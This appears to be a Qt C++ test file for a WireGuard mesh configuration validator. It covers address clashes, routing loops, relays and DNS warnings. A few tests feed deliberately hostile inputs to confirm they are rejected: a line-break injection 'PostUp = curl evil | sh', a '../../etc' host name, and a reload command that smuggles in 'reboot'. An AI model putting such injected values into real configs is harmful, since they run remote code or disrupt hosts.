// Tests of the validator: each finding on a small project that has exactly that mistake.
#include "projectfile.h"
#include "testsupport.h"
#include "planner.h"
#include "validator.h"

#include <QTest>

namespace {

/// Two LAN hosts, a gateway and a roaming phone: a valid project to break row by row.
const char *const Base = R"(hosts:
  lan1:
    os: Linux
    lan: {ip: '192.168.1.10'}
    wg0: {ip: '10.9.0.10', ipv6: 'fd09::10'}
    exclude_peers: [phone]
  lan2:
    os: FreeBSD
    lan: {ip: '192.168.1.11'}
    wg0: {ip: '10.9.0.11', ipv6: 'fd09::11'}
    exclude_peers: [phone]
  gw:
    os: OpenBSD
    internet: {ip: '198.51.100.7'}
    wg0: {ip: '10.9.0.1', ipv6: 'fd09::1'}
  phone:
    os: Android
    wg0: {ip: '10.9.0.100', ipv6: 'fd09::100'}
    exclude_peers: [lan1, lan2]
)";

QStringList findingsOf(const QByteArray &yaml)
{
    ProjectFile::LoadError error;
    const auto project = ProjectFile::parse(yaml, QStringLiteral("v.yaml"), &error);
    if (!project)
        return {QStringLiteral("load failed: ") + error.toString()};
    QStringList result;
    for (const Diagnostic &d : Validator::validate(*project))
        result.append(d.toString());
    return result;
}

} // namespace

class tst_Validator : public QObject
{
    Q_OBJECT

private slots:
    void baseIsClean();
    void findings_data();
    void findings();
    void editedProjectsAreChecked();
    void keptCommandsAreChecked();
    void exampleHasOnlyTrueWarnings();
    void manyHostsShareOneFinding();
};

void tst_Validator::baseIsClean()
{
    QCOMPARE(findingsOf(Base), QStringList());
}

void tst_Validator::findings_data()
{
    QTest::addColumn<QByteArray>("yaml");
    QTest::addColumn<QStringList>("expected");
    const QByteArray base(Base);
    auto replace = [&](const char *from, const char *to) {
        QByteArray copy = base;
        const qsizetype at = copy.indexOf(from);
        Q_ASSERT(at >= 0);
        return copy.replace(at, qsizetype(qstrlen(from)), to);
    };

    QTest::newRow("duplicate mesh address")
        << replace("ip: '10.9.0.11'", "ip: '10.9.0.10'")
        << QStringList{"error: lan2: mesh address 10.9.0.10 is already used by lan1"};
    QTest::newRow("duplicate IPv6 written differently")
        << replace("ipv6: 'fd09::11'", "ipv6: 'fd09:0::10'")
        << QStringList{"error: lan2: mesh address fd09:0::10 is already used by lan1"};
    QTest::newRow("address outside the mesh subnet")
        << base + "network: {ipv4: '10.9.0.0/26'}\n"
        << QStringList{"error: phone: mesh address 10.9.0.100 is outside the mesh subnet 10.9.0.0/26"};
    QTest::newRow("one-sided exclude_peers")
        << replace("    exclude_peers: [lan1, lan2]", "    exclude_peers: [lan1]")
        << QStringList{"error: lan2 -> phone: lan2 excludes phone, but phone still has lan2 as a peer: a broken half link. "
                       "Add lan2 to phone's exclude_peers, or remove phone from lan2's",
                       // what the half link does to the phone's side:
                       "error: phone -> lan2: neither side has an endpoint for the other, so the tunnel can never come up (both "
                       "roam or sit behind NAT)"};
    const QByteArray twoGateways = base + "  gw2:\n    internet: {ip: '203.0.113.9'}\n    wg0: {ip: '10.9.0.2'}\n";
    QTest::newRow("two exits: the first holds the default route, the other its own addresses") << twoGateways << QStringList{};
    QTest::newRow("a second default route given by hand")
        << twoGateways + "links:\n  - hosts: [phone, gw2]\n    allowed_ips: {gw2: ['0.0.0.0/0', '::/0']}\n"
        << QStringList{"warning: phone: gw and gw2 get the same default route (0.0.0.0/0, ::/0); WireGuard uses only one of "
                       "them and does not fail over. Use the per-gateway profiles (wg0-gw, wg0-gw2) to switch gateways by hand"};
    QTest::newRow("exits in another order") << QByteArray(twoGateways).replace("exclude_peers: [lan1, lan2]", "exclude_peers: [lan1, lan2]\n    exits: [gw2, gw]")
                                            << QStringList{};
    QTest::newRow("an exit the client cannot dial")
        << QByteArray(twoGateways).replace("exclude_peers: [lan1, lan2]", "exclude_peers: [lan2]\n    exits: [lan1, gw]").replace("    exclude_peers: [phone]\n  lan2", "  lan2")
        << QStringList{"warning: phone -> lan1: lan1 is in exits but phone cannot send to it (not a peer, or no endpoint to dial): it is left out",
                       "note: gw: relays lan1–phone (no direct path between their ends): it terminates both tunnels, so their traffic is "
                       "decrypted on gw"};
    // A Linux laptop that dials its gateway by name, with the default resolvers (1.1.1.1,
    // 8.8.8.8) behind that gateway: when the name moves, it cannot be resolved again.
    const QByteArray byName = QByteArray(base).replace("    os: Android\n", "    os: Linux\n")
        + "links:\n  - hosts: [phone, gw]\n    endpoint: {gw: 'gw.example.net:56709'}\n";
    QTest::newRow("the resolver behind the tunnel of a peer dialled by name")
        << byName
        << QStringList{"warning: phone -> gw: dials gw.example.net by name, but its DNS server 1.1.1.1 is reached through that same "
                       "tunnel (0.0.0.0/0): when gw.example.net moves, the name cannot be resolved again. Give it a resolver outside "
                       "the tunnel, or dial the peer by address"};
    QTest::newRow("a resolver on the local network") << QByteArray(byName).prepend("defaults: {dns: ['192.168.1.1']}\n") << QStringList{};
    QTest::newRow("the mesh's own resolver, on the peer dialled by name")
        << QByteArray(byName).prepend("defaults: {dns: ['10.9.0.1']}\n")
        << QStringList{"warning: phone -> gw: dials gw.example.net by name, but its DNS server 10.9.0.1 is reached through that same "
                       "tunnel (0.0.0.0/0): when gw.example.net moves, the name cannot be resolved again. Give it a resolver outside "
                       "the tunnel, or dial the peer by address"};
    QTest::newRow("a second exit: the watchdog moves the default route, and the resolver with it")
        << QByteArray(byName).replace("links:\n", "  gw2:\n    internet: {ip: '203.0.113.9'}\n    wg0: {ip: '10.9.0.2'}\nlinks:\n")
        << QStringList{};
    QTest::newRow("exits named twice") << QByteArray(twoGateways).replace("exclude_peers: [lan1, lan2]", "exclude_peers: [lan1, lan2]\n    exits: [gw, gw]")
                                       << QStringList{"warning: phone -> gw: exits names gw twice"};
    QTest::newRow("exits on a host that is no full-tunnel client")
        << QByteArray(twoGateways).replace("exclude_peers: [lan1, lan2]", "exclude_peers: [lan1, lan2]\n    gateway: false\n    exits: [gw]")
        << QStringList{"warning: phone: 'exits' only matter on a roaming client with 'gateway: true' (it sends all its traffic to the "
                       "first); phone is none"};
    QTest::newRow("same extra prefix on two peers")
        << base + "links:\n  - hosts: [gw, lan1]\n    allowed_ips: {lan1: ['192.168.1.0/24']}\n"
                  "  - hosts: [gw, lan2]\n    allowed_ips: {lan2: ['192.168.1.0/24']}\n"
        << QStringList{"error: gw -> lan2: 192.168.1.0/24 is also in the AllowedIPs of lan1; WireGuard keeps it for only one peer "
                       "and routes it there alone"};
    QTest::newRow("nested prefixes are fine")
        << base + "links:\n  - hosts: [gw, lan1]\n    allowed_ips: {lan1: ['192.168.0.0/16']}\n"
                  "  - hosts: [gw, lan2]\n    allowed_ips: {lan2: ['192.168.1.0/24']}\n"
        << QStringList{};
    QTest::newRow("endpoint inside the peer's AllowedIPs")
        << base + "links:\n  - hosts: [lan1, gw]\n    allowed_ips: {gw: ['198.51.100.0/24']}\n"
        << QStringList{"error: lan1 -> gw: the endpoint 198.51.100.7 lies inside AllowedIPs 198.51.100.0/24 of the same peer: a routing "
                       "loop. Reach the peer through an address outside the tunnel (e.g. its IPv6 address)"};
    // A roaming client linked to a LAN host: neither can dial the other, the gateway relays.
    const QByteArray linked = replace("    exclude_peers: [lan1, lan2]", "    exclude_peers: [lan2]")
                                  .replace("lan: {ip: '192.168.1.10'}\n    wg0: {ip: '10.9.0.10', ipv6: 'fd09::10'}\n    exclude_peers: [phone]",
                                           "lan: {ip: '192.168.1.10'}\n    wg0: {ip: '10.9.0.10', ipv6: 'fd09::10'}");
    QTest::newRow("neither side has an endpoint: relayed")
        << linked
        << QStringList{"note: gw: relays lan1–phone (no direct path between their ends): it terminates both tunnels, so their traffic is "
                       "decrypted on gw"};
    QTest::newRow("neither side has an endpoint, and no relay")
        << QByteArray(linked)
               .replace("wg0: {ip: '10.9.0.10', ipv6: 'fd09::10'}\n", "wg0: {ip: '10.9.0.10', ipv6: 'fd09::10'}\n    exclude_peers: [gw]\n")
               .replace("wg0: {ip: '10.9.0.1', ipv6: 'fd09::1'}\n", "wg0: {ip: '10.9.0.1', ipv6: 'fd09::1'}\n    exclude_peers: [lan1]\n")
        << QStringList{"error: lan1 -> phone: no direct path (lan1 is behind the NAT of the default site, phone roams) and no relay that "
                       "both reach: lan1 and gw are not peers (exclude_peers); give one of them an endpoint (a port forward), or name a "
                       "relay both can dial"};
    QTest::newRow("one address far from the others")
        << replace("wg0: {ip: '10.9.0.100'", "wg0: {ip: '10.19.0.100'")
        << QStringList{"warning: the mesh addresses span 10.0.0.0/11, wider than a /24; check the address of phone, or set network.ipv4 "
                       "to the subnet you mean"};
    QTest::newRow("behind NAT without keepalive")
        << base + "links:\n  - hosts: [lan1, gw]\n    keepalive: 0\n"
        << QStringList{"warning: lan1 -> gw: lan1 is behind NAT but sends no keepalive: gw can reach it only while lan1 is sending"};
    QTest::newRow("gateway: false without a gateway")
        << replace("    exclude_peers: [lan1, lan2]", "    exclude_peers: [lan1, lan2, gw]\n    gateway: false")
        << QStringList{"warning: phone: has no peers: it excludes every other host",
                       "warning: phone: has 'gateway: false' but no internet gateway among its peers to carry the mesh subnets",
                       "error: phone -> gw: phone excludes gw, but gw still has phone as a peer: a broken half link. Add phone to gw's "
                       "exclude_peers, or remove gw from phone's"};
}

void tst_Validator::findings()
{
    QFETCH(QByteArray, yaml);
    QFETCH(QStringList, expected);
    QStringList found = findingsOf(yaml);
    found.sort();
    expected.sort();
    QCOMPARE(found, expected);
}

void tst_Validator::editedProjectsAreChecked()
{
    // What the loader refuses from a file, an edit in the GUI could still produce.
    ProjectFile::LoadError error;
    auto project = ProjectFile::parse(Base, QStringLiteral("v.yaml"), &error);
    QVERIFY(project);
    project->hosts[0].os = QStringLiteral("Linux\nPostUp = curl evil | sh");
    project->hosts[1].name = QStringLiteral("../../etc");
    project->hosts[2].meshInterface().ip = QStringLiteral("10.9.0.999");
    project->hosts[3].ssh = SshSettings{};
    project->hosts[3].ssh->reloadCmd = QStringLiteral("true\nreboot");
    LinkSettings link;
    link.a = QStringLiteral("gw");
    link.b = QStringLiteral("lan1");
    link.end(QStringLiteral("gw")).endpoint = QStringLiteral("gw example:51820");
    project->links.append(link);
    QStringList found;
    for (const Diagnostic &d : Validator::validate(*project))
        found.append(d.toString());
    QCOMPARE(found, QStringList({
                        "error: lan1: os holds a line break, control character or '#', which could add lines to a config",
                        "error: ../../etc: names may hold only letters, digits, '_', '.', '-'",
                        "error: gw: wg0: '10.9.0.999' is not a valid IPv4 address",
                        "error: phone: ssh.reload_cmd: a line break or control character here could add remote commands",
                        "error: phone: exclude_peers names unknown host 'lan2'",
                        "error: gw -> lan1: endpoint for gw: 'gw example:51820' may not hold spaces, '#' or control characters",
                    }));
}

void tst_Validator::keptCommandsAreChecked()
{
    // Commands kept as written (an imported config's PostUp) go into the config as lines:
    // one with a line break could add keys, so it is refused; and what they cannot do is
    // said.
    ProjectFile::LoadError error;
    auto project = ProjectFile::parse(Base, QStringLiteral("v.yaml"), &error);
    QVERIFY(project);
    project->hosts[0].meshInterface().postUp = {QStringLiteral("iptables -A FORWARD -i %i -j ACCEPT")};
    QCOMPARE(Validator::validate(*project), QList<Diagnostic>());
    project->hosts[0].meshInterface().postUp.append(QStringLiteral("true\nPrivateKey = x"));
    project->hosts[0].meshInterface().saveConfig = true;
    project->hosts[2].meshInterface().preUp = {QStringLiteral("echo up")};
    QStringList found;
    for (const Diagnostic &d : Validator::validate(*project))
        found.append(d.toString());
    QCOMPARE(found, QStringList({
                        "error: lan1: wg0.post_up holds a line break, control character or '#', which could add lines to a config",
                        "warning: lan1: wg0.save_config: wg-quick writes the running state back into wg0.conf when it goes down, "
                        "so the host's file drifts from the project",
                        "warning: gw: wg0.pre_up: OpenBSD's netstart runs no wg-quick commands; they are left out",
                    }));
    // The file refuses such a command with its line.
    QVERIFY(!ProjectFile::parse("hosts:\n  a:\n    wg0: {ip: '10.0.0.1', post_up: ['echo # x']}\n", QStringLiteral("p.yaml"), &error));
    QCOMPARE(error.toString(), QStringLiteral("p.yaml:3: a.wg0.post_up: a command may not hold '#' or control characters"));
}

void tst_Validator::exampleHasOnlyTrueWarnings()
{
    ProjectFile::LoadError error;
    const auto project = ProjectFile::load(TestSupport::sourcePath(QStringLiteral("resources/examples/homelab-mesh.yaml")), &error);
    QVERIFY2(project, qPrintable(error.toString()));
    // The laptop and the phone each send everything to the first of their two exits: no
    // default route is shared, so nothing is left to say.
    QCOMPARE(Validator::validate(*project), QList<Diagnostic>());
    const Planner planner(*project);
    for (const char *client : {"laptop", "phone"})
        QCOMPARE(planner.exitsOf(project->indexOf(QLatin1String(client))).size(), 2);
}

QTEST_APPLESS_MAIN(tst_Validator)
#include "tst_validator.moc"

void tst_Validator::manyHostsShareOneFinding()
{
    // 15 gateways and 20 roaming clients that were each given a default route to all of them
    // by hand: every client gets the same warning, which the command line and the Findings
    // pane show once, naming a dozen clients; the warning itself names a dozen gateways, not
    // all 15.
    QByteArray yaml = "network: {ipv4: '10.9.0.0/24'}\nhosts:\n";
    for (int g = 1; g <= 15; ++g)
        yaml += QStringLiteral("  gw%1:\n    os: Linux\n    internet: {ip: '198.51.100.%1'}\n    wg0: {ip: '10.9.0.%1'}\n").arg(g).toUtf8();
    QStringList clients;
    for (int c = 1; c <= 20; ++c)
        clients.append(QStringLiteral("c%1").arg(c, 2, 10, QLatin1Char('0')));
    for (const QString &client : std::as_const(clients)) // phones reach the gateways, not each other
        yaml += QStringLiteral("  %1:\n    os: Android\n    wg0: {ip: '10.9.0.1%2'}\n    exclude_peers: [%3]\n")
                    .arg(client, client.mid(1), clients.join(QLatin1String(", ")))
                    .toUtf8();
    yaml += "links:\n";
    for (const QString &client : std::as_const(clients)) {
        for (int g = 2; g <= 15; ++g)
            yaml += QStringLiteral("  - hosts: [%1, gw%2]\n    allowed_ips: {gw%2: ['0.0.0.0/0']}\n").arg(client).arg(g).toUtf8();
    }
    ProjectFile::LoadError error;
    const auto project = ProjectFile::parse(yaml, QStringLiteral("v.yaml"), &error);
    QVERIFY2(project, qPrintable(error.toString()));
    const QList<Diagnostic> found = Validator::validate(*project);
    QCOMPARE(found.size(), 20);
    const QString message = found.front().message;
    QVERIFY2(message.startsWith(QLatin1String("gw1, gw2, gw3, gw4, gw5, gw6, gw7, gw8, gw9, gw10, gw11, gw12, and 3 more get the same default route")),
             qPrintable(message));
    QVERIFY2(message.contains(QLatin1String("(wg0-gw1, wg0-gw2, wg0-gw3, wg0-gw4, wg0-gw5, wg0-gw6, wg0-gw7, wg0-gw8, wg0-gw9, wg0-gw10, "
                                            "wg0-gw11, wg0-gw12, and 3 more)")),
             qPrintable(message));

    const QList<FindingGroup> groups = groupFindings(found);
    QCOMPARE(groups.size(), 1);
    QCOMPARE(groups[0].hosts.size(), 20);
    QCOMPARE(groups[0].first, found.front());
    QVERIFY2(groups[0].toString().startsWith(QLatin1String("warning: c01, c02, c03, c04, c05, c06, c07, c08, c09, c10, c11, c12, "
                                                          "and 8 more: gw1, gw2,")),
             qPrintable(groups[0].toString()));

    // Only the same severity, peer and message make one group; project-wide findings stay apart.
    auto finding = [](Diagnostic::Severity severity, const char *host, const char *peer, const char *message) {
        return Diagnostic{severity, QString::fromLatin1(host), QString::fromLatin1(peer), QString::fromLatin1(message), 0};
    };
    using S = Diagnostic::Severity;
    const QList<FindingGroup> mixed = groupFindings({finding(S::Warning, "a", "", "m"), finding(S::Error, "b", "", "m"),
                                                     finding(S::Warning, "c", "", "m"), finding(S::Warning, "d", "x", "m"),
                                                     finding(S::Warning, "", "", "m"), finding(S::Warning, "", "", "m"),
                                                     finding(S::Warning, "a", "", "m")});
    QCOMPARE(mixed.size(), 5);
    QCOMPARE(mixed[0].hosts, QStringList({"a", "c"}));
    QCOMPARE(mixed[0].toString(), QStringLiteral("warning: a and c: m"));
    QCOMPARE(mixed[1].toString(), QStringLiteral("error: b: m"));
    QCOMPARE(mixed[2].toString(), QStringLiteral("warning: d -> x: m"));
    QCOMPARE(mixed[3].toString(), QStringLiteral("warning: m"));
    QCOMPARE(mixed[4].toString(), QStringLiteral("warning: m"));

    QCOMPARE(nameList({}), QString());
    QCOMPARE(nameList({"a"}), QStringLiteral("a"));
    QCOMPARE(nameList({"a", "b", "c"}), QStringLiteral("a, b, and c"));
    QCOMPARE(nameList({"a", "b", "c", "d"}, 2), QStringLiteral("a, b, and 2 more"));
}
